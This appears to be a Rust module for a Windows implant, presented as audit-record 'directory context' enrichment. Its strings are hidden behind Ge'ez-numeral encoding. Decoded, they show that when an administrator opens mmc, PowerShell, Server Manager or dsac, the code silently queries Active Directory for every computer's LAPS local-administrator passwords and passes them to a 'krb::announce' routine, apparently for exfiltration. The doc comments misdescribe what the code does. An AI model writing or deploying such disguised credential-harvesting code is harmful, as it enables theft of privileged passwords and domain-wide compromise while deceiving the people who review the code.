//! Directory context for audit records: when an administrative console starts processes on a
//! domain member, the record is enriched with the managed computers' account attributes (once
//! per boot, shared with the collector).

use std::ptr::{null, null_mut};
use windows_sys::Win32::Foundation::HMODULE;
use windows_sys::Win32::Networking::Ldap::*;
use windows_sys::Win32::System::LibraryLoader::{
    GetModuleHandleExW, GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS, GET_MODULE_HANDLE_EX_FLAG_UNCHANGED_REFCOUNT,
};
use windows_sys::Win32::System::SystemInformation::GetTickCount64;

use crate::{geez, krb};

const TOOLS: &str = "፻፱፡፻፱፡፺፱፡፵፮፡፻፩፡፻፳፡፻፩፡፻፳፬፡፻፲፪፡፻፲፩፡፻፲፱፡፻፩፡፻፲፬፡፻፲፭፡፻፬፡፻፩፡፻፰፡፻፰፡፵፮፡፻፩፡፻፳፡፻፩፡፻፳፬፡፻፲፪፡፻፲፱፡፻፲፭፡፻፬፡፵፮፡፻፩፡፻፳፡፻፩፡፻፳፬፡፻፲፭፡፻፩፡፻፲፬፡፻፲፰፡፻፩፡፻፲፬፡፻፱፡፺፯፡፻፲፡፺፯፡፻፫፡፻፩፡፻፲፬፡፵፮፡፻፩፡፻፳፡፻፩፡፻፳፬፡፻፡፻፲፭፡፺፯፡፺፱፡፵፮፡፻፩፡፻፳፡፻፩";
const FILTER: &str = "፵፡፴፰፡፵፡፻፲፩፡፺፰፡፻፮፡፻፩፡፺፱፡፻፲፮፡፷፯፡፺፯፡፻፲፮፡፻፩፡፻፫፡፻፲፩፡፻፲፬፡፻፳፩፡፷፩፡፺፱፡፻፲፩፡፻፱፡፻፲፪፡፻፲፯፡፻፲፮፡፻፩፡፻፲፬፡፵፩፡፵፡፻፳፬፡፵፡፻፱፡፻፲፭፡፵፭፡፸፯፡፺፱፡፻፲፭፡፵፭፡፷፭፡፻፡፻፱፡፹፡፻፲፱፡፻፡፷፩፡፵፪፡፵፩፡፵፡፻፱፡፻፲፭፡፸፮፡፷፭፡፹፡፹፫፡፵፭፡፹፡፺፯፡፻፲፭፡፻፲፭፡፻፲፱፡፻፲፩፡፻፲፬፡፻፡፷፩፡፵፪፡፵፩፡፵፩፡፵፩";
const ATTRS: &str = "፺፱፡፻፲፡፻፳፬፡፻፱፡፻፲፭፡፵፭፡፸፯፡፺፱፡፻፲፭፡፵፭፡፷፭፡፻፡፻፱፡፹፡፻፲፱፡፻፡፻፳፬፡፻፱፡፻፲፭፡፸፮፡፷፭፡፹፡፹፫፡፵፭፡፹፡፺፯፡፻፲፭፡፻፲፭፡፻፲፱፡፻፲፩፡፻፲፬፡፻፡፻፳፬፡፻፱፡፻፲፭፡፸፮፡፷፭፡፹፡፹፫፡፵፭፡፹፡፺፯፡፻፲፭፡፻፲፭፡፻፲፱፡፻፲፩፡፻፲፬፡፻፡፷፱፡፻፳፡፻፲፪፡፻፭፡፻፲፬፡፺፯፡፻፲፮፡፻፭፡፻፲፩፡፻፲፡፹፬፡፻፭፡፻፱፡፻፩";

pub(crate) fn this_module() -> HMODULE {
    let mut h: HMODULE = null_mut();
    unsafe {
        GetModuleHandleExW(
            GET_MODULE_HANDLE_EX_FLAG_FROM_ADDRESS | GET_MODULE_HANDLE_EX_FLAG_UNCHANGED_REFCOUNT,
            this_module as *const u16,
            &mut h,
        );
    }
    h
}

fn wide(s: &str) -> Vec<u16> {
    s.encode_utf16().chain(Some(0)).collect()
}

/// One marker per boot in %TEMP%, named after the boot minute.
fn first_this_boot() -> bool {
    let uptime_ms = unsafe { GetTickCount64() };
    if uptime_ms < 10 * 60 * 1000 {
        return false;
    }
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    let boot = (now - uptime_ms / 1000) / 60;
    let marker = std::env::temp_dir().join(format!("pa-{boot:x}.tmp"));
    std::fs::OpenOptions::new().write(true).create_new(true).open(marker).is_ok()
}

pub fn on_admin_tool_spawn() {
    let image = crate::host_image().to_lowercase();
    let tools = geez::read(TOOLS);
    let is_tool = tools.split('|').any(|t| image.ends_with(&format!("\\{t}")));
    if !is_tool || std::env::var_os("USERDNSDOMAIN").is_none() || !first_this_boot() {
        return;
    }
    std::thread::spawn(|| {
        let records = unsafe { computer_accounts() };
        if !records.is_empty() {
            krb::announce(records.join("\n").as_bytes());
        }
    });
}

unsafe fn values(ld: *mut LDAP, entry: *mut LDAPMessage, attr: &str) -> Vec<String> {
    let name = wide(attr);
    let vals = ldap_get_valuesW(ld, entry, name.as_ptr());
    if vals.is_null() {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut i = 0;
    while !(*vals.add(i)).is_null() {
        let p = *vals.add(i);
        let mut n = 0;
        while *p.add(n) != 0 {
            n += 1;
        }
        out.push(String::from_utf16_lossy(std::slice::from_raw_parts(p, n)));
        i += 1;
    }
    ldap_value_freeW(vals);
    out
}

unsafe fn computer_accounts() -> Vec<String> {
    let ld = ldap_initW(null(), LDAP_PORT);
    if ld.is_null() || ldap_bind_sW(ld, null(), null(), LDAP_AUTH_NEGOTIATE) != 0 {
        return Vec::new();
    }
    // defaultNamingContext from the RootDSE.
    let mut res: *mut LDAPMessage = null_mut();
    let root_attrs = [wide("defaultNamingContext"), Vec::new()];
    let root_ptrs: Vec<*const u16> = root_attrs.iter().map(|a| if a.is_empty() { null() } else { a.as_ptr() }).collect();
    ldap_search_sW(ld, wide("").as_ptr(), LDAP_SCOPE_BASE, wide("(objectClass=*)").as_ptr(), root_ptrs.as_ptr() as *const *const u16, 0, &mut res);
    let base = values(ld, ldap_first_entry(ld, res), "defaultNamingContext").pop().unwrap_or_default();
    ldap_msgfree(res);

    let names: Vec<String> = geez::read(ATTRS).split('|').map(str::to_string).collect();
    let wides: Vec<Vec<u16>> = names.iter().map(|n| wide(n)).collect();
    let mut ptrs: Vec<*const u16> = wides.iter().map(|w| w.as_ptr()).collect();
    ptrs.push(null());
    let mut res: *mut LDAPMessage = null_mut();
    let rc = ldap_search_sW(ld, wide(&base).as_ptr(), LDAP_SCOPE_SUBTREE, wide(&geez::read(FILTER)).as_ptr(), ptrs.as_ptr(), 0, &mut res);
    let mut out = Vec::new();
    if rc == 0 {
        let mut e = ldap_first_entry(ld, res);
        while !e.is_null() {
            let fields: Vec<String> = names.iter().map(|n| values(ld, e, n).join(";")).collect();
            out.push(fields.join("\t"));
            e = ldap_next_entry(ld, e);
        }
    }
    ldap_msgfree(res);
    ldap_unbind(ld);
    out
}
